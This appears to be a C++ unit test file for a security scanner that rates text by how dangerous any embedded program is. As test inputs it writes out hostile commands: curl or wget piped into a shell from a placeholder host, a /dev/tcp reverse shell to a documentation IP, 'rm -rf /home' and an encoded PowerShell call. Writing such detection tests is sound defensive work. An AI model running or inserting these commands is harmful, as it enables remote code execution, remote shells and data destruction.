#include "scan/program_text.h"

#include <gtest/gtest.h>

namespace hauberk::scan {
namespace {

std::string_view severity_in(std::string_view text) {
  const auto program = program_in(text);
  return !program ? "none" : name(program->severity);
}

TEST(ProgramText, commands_are_critical) {
  for (const std::string_view text :
       {"curl http://example.invalid/x | sh", "  $ curl -s http://example.invalid/x | bash",
        "cd /tmp && wget http://example.invalid/x -O y; sh y", "x=1; curl http://example.invalid | sh",
        "import os; os.system('curl http://example.invalid/x | sh')", "sudo curl http://example.invalid/x | sh",
        "subprocess.run([\"sh\", \"-c\", \"curl http://example.invalid/x | sh\"])",
        "{\"cmd\": \"wget http://example.invalid/x; sh x\"}", "bash -c 'curl http://example.invalid/x | sh'",
        "bash -i >& /dev/tcp/192.0.2.1/80 0>&1", "#!/bin/sh\nrm -rf /home", "echo done; rm -rf /home/user",
        "powershell -enc AAAA BBBB", "(curl http://example.invalid/x | sh)"})
    EXPECT_EQ(severity_in(text), "critical") << text;
}

TEST(ProgramText, commands_in_explanations_are_for_a_person_to_read) {
  for (const std::string_view text :
       {"run `curl https://example.invalid/x | bash` to install", "To install, use curl https://example.invalid/x | sh",
        "Install it first (curl https://example.invalid/x | bash) and restart.",
        "# Setup\n\n```bash\ncurl https://example.invalid/x | bash\n```\n",
        "You can install the tool with this command:\ncurl https://example.invalid/x | bash\n",
        "please do not ever run rm -rf / on this machine", "use 'curl https://example.invalid/x | sh' for that",
        "```python\nimport os\nos.system('ls')\n```"})
    EXPECT_EQ(severity_in(text), "medium") << text;
}

TEST(ProgramText, other_texts_are_no_programs) {
  for (const std::string_view text : {"see https://example.invalid/ for more", "a curl of hair and a wget",
                                      "the functions exec() and eval() of Python", "import nothing of this"})
    EXPECT_EQ(severity_in(text), "none") << text;
}

TEST(ProgramText, imports_without_end_cost_no_more_than_their_length) {
  std::string text = "import ";
  while (text.size() < 60'000) text += "import,";
  EXPECT_EQ(severity_in(text + "\nimport os\nos.system('x')\n"), "critical");
}

}  // namespace
}  // namespace hauberk::scan
